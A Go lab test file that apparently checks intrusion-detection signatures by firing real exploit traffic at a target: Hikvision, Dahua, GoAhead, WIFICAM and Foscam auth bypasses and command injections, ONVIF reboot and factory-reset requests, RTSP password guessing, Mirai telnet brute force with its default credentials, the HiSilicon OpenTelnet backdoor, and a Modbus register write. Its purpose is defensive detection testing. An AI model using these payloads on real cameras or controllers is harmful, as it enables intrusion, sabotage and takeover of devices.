//go:build lab

package scenario

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"time"
)

// assault is an attack with payload on a device, over real connections, and the alerts that it must give with the rules
// that ship: how many by signature.
type assault struct {
	name   string
	do     func(target netip.Addr) error
	alerts map[int]int
}

// assaults are what botnets and intruders do to cameras and controllers, as public advisories show it.
var assaults = []assault{
	{"Hikvision webLanguage, CVE-2021-36260", request("PUT", "/SDK/webLanguage",
		`<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>`), map[int]int{9300200: 1}},
	{"Hikvision magic string, CVE-2017-7921", request("GET", "/Security/users?auth=YWRtaW46MTEK", ""), map[int]int{9300201: 1}},
	{"Dahua NetKeyboard, CVE-2021-33044", request("POST", "/RPC2_Login", `{"method":"global.login","params":{"userName":"admin",`+
		`"password":"Not Used","clientType":"NetKeyboard","loginType":"Direct","authorityType":"Default"},"id":1,"session":0}`), map[int]int{9300202: 1}},
	{"Dahua loopback, CVE-2021-33045", request("POST", "/RPC2_Login", `{"method":"global.login","params":{"userName":"admin","ipAddr":"127.0.0.1",`+
		`"loginType":"Loopback","clientType":"Local","authorityType":"Default","passwordType":"Plain","password":"admin"},"id":1,"session":0}`), map[int]int{9300203: 1}},
	{"GoAhead system.ini, CVE-2017-8225", request("GET", "/system.ini?loginuse&loginpas", ""), map[int]int{9300208: 1}},
	{"WIFICAM set_ftp.cgi", request("GET", "/set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas=admin&svr=192.0.2.1&port=21&user=ftp&pwd=$(id)&dir=/&mode=PORT", ""), map[int]int{9300209: 1}},
	{"Foscam CGIProxy", request("GET", "/cgi-bin/CGIProxy.fcgi?cmd=setSystemTime&usr=admin&pwd=&ntpServer=;id;", ""), map[int]int{9300251: 1}},
	{"ONVIF SystemReboot", onvif("SystemReboot"), map[int]int{9300001: 1, 9300030: 1}},
	{"ONVIF SetSystemFactoryDefault", onvif("SetSystemFactoryDefault"), map[int]int{9300002: 1, 9300030: 1}},
	{"RTSP password guessing", guessRTSP, map[int]int{9300100: 1}},
	{"Mirai over telnet", mirai, map[int]int{9300400: 6, 9300401: 1, 9300404: 6}},
	{"OpenTelnet by port 9530", openTelnet, map[int]int{9300213: 1, 9300215: 1}},
	{"Modbus write of several registers", writeRegisters, map[int]int{9300603: 1}},
}

const assaultTime = 5 * time.Second

// request sends one HTTP request on a connection of its own; what the camera answers does not matter.
func request(method, path, body string) func(netip.Addr) error {
	return func(target netip.Addr) error {
		c, err := reach(target, 80)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: python-requests/2.28.1\r\nAccept: */*\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s",
			method, path, target, len(body), body)
		if err != nil {
			return err
		}
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			return err
		}
		defer res.Body.Close()
		_, err = io.Copy(io.Discard, res.Body)
		return err
	}
}

func onvif(operation string) func(netip.Addr) error {
	return request("POST", "/onvif/device_service", `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"`+
		` xmlns:tds="http://www.onvif.org/ver10/device/wsdl"><s:Body><tds:`+operation+`/></s:Body></s:Envelope>`)
}

func reach(target netip.Addr, port uint16) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", netip.AddrPortFrom(target, port).String(), assaultTime)
	if err != nil {
		return nil, err
	}
	return c, c.SetDeadline(time.Now().Add(assaultTime))
}

// guesses is more than any rule's threshold.
const guesses = 12

// guessRTSP tries passwords against the camera's digest authentication, each on a connection of its own.
func guessRTSP(target netip.Addr) error {
	for n := range guesses {
		if err := guess(target, n); err != nil {
			return err
		}
	}
	return nil
}

func guess(target netip.Addr, n int) error {
	c, err := reach(target, 554)
	if err != nil {
		return err
	}
	defer c.Close()
	uri := "rtsp://" + target.String() + "/stream"
	_, err = fmt.Fprintf(c, "DESCRIBE %s RTSP/1.0\r\nCSeq: 2\r\nUser-Agent: LibVLC/3.0.18\r\nAuthorization: Digest username=\"admin\", "+
		"realm=\"IPCAM\", nonce=\"4d1f\", uri=\"%s\", response=\"%032x\"\r\n\r\n", uri, uri, n)
	if err != nil {
		return err
	}
	line, err := bufio.NewReader(c).ReadString('\n')
	if err == nil && !strings.HasPrefix(line, "RTSP/1.0 401") {
		err = fmt.Errorf("the camera answered %q", line)
	}
	return err
}

// mirai tries the worm's list; the last pair is taken, and it looks for its busybox.
func mirai(target netip.Addr) error {
	for _, pair := range [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"root", "juantech"}, {"root", "klv123"}, {"root", "hi3518"}, {"root", "7ujMko0admin"}} {
		c, err := reach(target, 23)
		if err != nil {
			return err
		}
		defer c.Close()
		for _, step := range [][2]string{{"login: ", pair[0]}, {"Password: ", pair[1]}, {"$ ", "enable"}, {"$ ", "/bin/busybox MIRAI"}, {"$ ", "exit"}} {
			if err := awaitText(c, step[0]); err != nil {
				return err
			}
			if _, err := io.WriteString(c, step[1]+"\r\n"); err != nil {
				return err
			}
		}
	}
	return nil
}

// awaitText reads to the end of a text.
func awaitText(c net.Conn, text string) error {
	seen, one := "", make([]byte, 1)
	for !strings.HasSuffix(seen, text) {
		if _, err := c.Read(one); err != nil {
			return fmt.Errorf("wait for %q: %w", text, err)
		}
		seen += string(one)
	}
	return nil
}

// openTelnet asks the back door of HiSilicon recorders for telnet.
func openTelnet(target netip.Addr) error {
	c, err := reach(target, 9530)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, "OpenTelnet:OpenOnce"); err != nil {
		return err
	}
	return awaitText(c, "randNum:")
}

// writeRegisters writes two holding registers of a controller (Modbus function 16).
func writeRegisters(target netip.Addr) error {
	c, err := reach(target, 502)
	if err != nil {
		return err
	}
	defer c.Close()
	pdu := []byte{16, 0, 8, 0, 2, 4, 0, 1, 0, 2}
	frame := binary.BigEndian.AppendUint16([]byte{0, 1, 0, 0}, uint16(1+len(pdu)))
	if _, err := c.Write(append(append(frame, 1), pdu...)); err != nil {
		return err
	}
	_, err = io.ReadFull(c, make([]byte, 12))
	return err
}

// victims are what a camera of the lab does not have: a console that lets anyone in, the back door, a controller.
var victims = map[uint16]func(net.Conn){
	23: func(c net.Conn) {
		r := bufio.NewReader(c)
		for _, prompt := range []string{"\xff\xfb\x01\xff\xfb\x03\r\ncam login: ", "Password: "} {
			_, _ = io.WriteString(c, prompt)
			if _, err := r.ReadString('\n'); err != nil {
				return
			}
		}
		for {
			_, _ = io.WriteString(c, "\r\n$ ")
			if line, err := r.ReadString('\n'); err != nil || strings.TrimSpace(line) == "exit" {
				return
			}
		}
	},
	9530: func(c net.Conn) {
		b := make([]byte, 64)
		if n, err := c.Read(b); err == nil && strings.HasPrefix(string(b[:n]), "OpenTelnet") {
			_, _ = io.WriteString(c, "randNum:12345678")
		}
	},
	502: func(c net.Conn) {
		b := make([]byte, 256)
		if n, err := c.Read(b); err == nil && n >= 12 {
			_, _ = c.Write(append([]byte{b[0], b[1], 0, 0, 0, 6, b[6]}, b[7:12]...))
		}
	},
}
